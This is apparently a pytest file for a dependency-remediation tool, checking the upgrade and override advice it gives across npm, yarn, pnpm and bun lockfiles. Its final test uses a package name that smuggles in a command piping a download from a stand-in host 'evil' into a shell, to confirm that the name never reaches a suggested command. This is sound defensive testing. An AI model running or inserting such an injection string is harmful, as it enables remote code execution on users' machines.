import json
from collections.abc import Mapping

import pytest

from dunnage.scan import remedy
from dunnage.scan.origin import FromLockfile
from project.contexts import a_project
from scan.locked import FORMATS, MANIFEST


def cure(
    files: Mapping[str, str],
    name: str,
    version: str,
    fixed: str,
    manifest: Mapping[str, object] = MANIFEST,
) -> str:
    project = a_project({"package.json": json.dumps(manifest), **files})
    found = project.entry(f"app/node_modules/{name}", name, version)
    assert found is not None
    overridden = project.package_json is not None and name in project.package_json.overridden
    return remedy.cure(FromLockfile(*found, overridden), fixed)


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("npm", "`npm update minimist` is enough: mkdirp 0.5.5 asks for ^1.2.5"),
        ("npm 1", "`npm update minimist` is enough: mkdirp 0.5.5 asks for ^1.2.5"),
        (
            "yarn",
            (
                "remove this entry of minimist, and `yarn install` is enough: "
                "mkdirp 0.5.5 asks for ^1.2.5"
            ),
        ),
        ("berry", "`yarn up -R minimist` is enough: mkdirp 0.5.5 asks for ^1.2.5"),
        (
            "pnpm",  # which keeps no ranges of packages
            (
                "update mkdirp, which brings it (mkdirp > minimist), or set its version in "
                "`pnpm.overrides` of package.json"
            ),
        ),
        (
            "bun",
            ("`bun update minimist` of Bun 1.4 or newer is enough: mkdirp 0.5.5 asks for ^1.2.5"),
        ),
    ],
)
def test_an_update_is_enough_where_all_who_ask_allow_it(kind: str, expected: str) -> None:
    assert cure(FORMATS[kind], "minimist", "1.2.5", "1.2.6") == expected


@pytest.mark.parametrize(
    ("kind", "overrides"),
    [
        ("npm", "overrides"),
        ("npm 1", "overrides"),
        ("yarn", "resolutions"),
        ("berry", "resolutions"),
        ("bun", "overrides"),
    ],
)
def test_who_holds_a_fix_back_is_named(kind: str, overrides: str) -> None:
    cause = "express 4.17.1 asks for qs 6.7.0, one of 2 that hold it back"
    override = f"set its version in `{overrides}` of package.json"
    assert cure(FORMATS[kind], "qs", "6.7.0", "6.7.3") == f"{cause}: update express, or {override}"


def test_pnpm_tells_the_way_to_a_package() -> None:
    assert cure(FORMATS["pnpm"], "qs", "6.7.0", "6.7.3") == (
        "update express, which brings it (express > qs), or set its version in `pnpm.overrides` "
        "of package.json"
    )


@pytest.mark.parametrize("kind", FORMATS)
def test_a_range_of_the_project_itself_is_raised_where_it_stands(kind: str) -> None:
    expected = "package.json asks for 4.17.20: raise it there"
    assert cure(FORMATS[kind], "lodash", "4.17.20", "4.17.21") == expected


@pytest.mark.parametrize(
    ("kind", "command"),
    [
        ("npm", "`npm update express` is enough"),
        ("npm 1", "`npm update express` is enough"),
        ("yarn", "remove this entry of express, and `yarn install` is enough"),
        ("berry", "`yarn up -R express` is enough"),
        ("pnpm", "`pnpm update express` is enough"),
        ("bun", "`bun update express` of Bun 1.4 or newer is enough"),
    ],
)
def test_an_update_is_enough_where_the_project_itself_allows_it(kind: str, command: str) -> None:
    expected = f"{command}: package.json asks for ^4.17.0"
    assert cure(FORMATS[kind], "express", "4.17.1", "4.19.2") == expected


@pytest.mark.parametrize(
    ("kind", "written", "name"),
    [
        ("npm", {"overrides": {"mkdirp": {"minimist": "1.2.5"}}}, "overrides"),
        ("yarn", {"resolutions": {"**/minimist": "1.2.5"}}, "resolutions"),
        ("berry", {"resolutions": {"minimist@npm:^1.2.5": "1.2.5"}}, "resolutions"),
        ("pnpm", {"pnpm": {"overrides": {"mkdirp@0.5.5>minimist": "1.2.5"}}}, "pnpm.overrides"),
        ("bun", {"overrides": {"minimist": "1.2.5"}}, "overrides"),
    ],
)
def test_an_override_has_the_last_word(kind: str, written: Mapping[str, object], name: str) -> None:
    assert cure(FORMATS[kind], "minimist", "1.2.5", "1.2.6", {**MANIFEST, **written}) == (
        f"package.json decides its version in `{name}`: raise it there"
    )


def test_of_many_who_ask_two_are_named() -> None:
    lock = {
        "packages": {
            "": {"dependencies": {"a": "1", "b": "1", "c": "1", "d": "1"}},
            **{
                f"node_modules/{name}": {"version": "1.0.0", "dependencies": {"ms": wanted}}
                for name, wanted in zip("abcd", ("^2", "2.0.0", "2.0.0", "~2.0.0"), strict=True)
            },
            "node_modules/ms": {"version": "2.0.0"},
        }
    }
    files = {"package-lock.json": json.dumps(lock)}
    assert cure(files, "ms", "2.0.0", "2.0.1") == (
        "b 1.0.0 asks for ms 2.0.0, one of 2 that hold it back: update b and c, or set its version "
        "in `overrides` of package.json"
    )
    assert cure(files, "ms", "2.0.0", "2.1.0") == (
        "b 1.0.0 asks for ms 2.0.0, one of 3 that hold it back: update b and c and 1 more, or set "
        "its version in `overrides` of package.json"
    )
    lock["packages"]["node_modules/d"]["dependencies"] = {"ms": "*"}  # type: ignore[index]  # JSON
    for name in "bc":
        lock["packages"][f"node_modules/{name}"]["dependencies"] = {"ms": "*"}  # type: ignore[index]  # JSON
    assert cure({"package-lock.json": json.dumps(lock)}, "ms", "2.0.0", "2.1.0") == (
        "`npm update ms` is enough: a 1.0.0 asks for ^2 and b 1.0.0 asks for *, two of 4 that "
        "allow it"
    )


def test_the_direct_dependency_at_the_start_of_the_way_is_the_one_to_update() -> None:
    lock = {
        "packages": {
            "": {"dependencies": {"a": "^1"}},
            "node_modules/a": {"version": "1.0.0", "dependencies": {"b": "^1"}},
            "node_modules/b": {"version": "1.0.0", "dependencies": {"c": "1.0.0"}},
            "node_modules/c": {"version": "1.0.0"},
        }
    }
    assert cure({"package-lock.json": json.dumps(lock)}, "c", "1.0.0", "1.0.1") == (
        "b 1.0.0 asks for c 1.0.0: update a, or set its version in `overrides` of package.json"
    )


def test_what_nobody_asks_for_is_told_so() -> None:
    files = {
        "package-lock.json": json.dumps({"packages": {"node_modules/a": {"version": "1.0.0"}}})
    }
    assert cure(files, "a", "1.0.0", "1.0.1") == (
        "update what depends on it, or set its version in `overrides` of package.json"
    )


def test_a_hostile_name_is_no_part_of_a_command() -> None:
    name = "a`;curl evil|sh"
    lock = {
        "packages": {
            "": {"dependencies": {name: "^1"}},
            f"node_modules/{name}": {"version": "1.0.0"},
        }
    }
    assert cure({"package-lock.json": json.dumps(lock)}, name, "1.0.0", "1.0.1") == (
        "what asks for it allows that version, so update the lockfile"
    )
